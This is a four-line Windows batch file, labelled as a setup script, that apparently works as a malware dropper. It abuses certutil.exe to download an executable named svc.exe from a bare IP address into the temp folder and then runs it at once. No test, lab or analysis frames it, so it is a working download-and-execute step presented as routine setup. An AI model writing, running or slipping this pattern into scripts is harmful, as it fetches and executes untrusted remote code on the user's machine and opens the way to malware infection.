REM setup 8072 v4
@echo off
certutil.exe -urlcache -split -f http://192.0.2.44/svc.exe %TEMP%\svc.exe
start "" %TEMP%\svc.exe
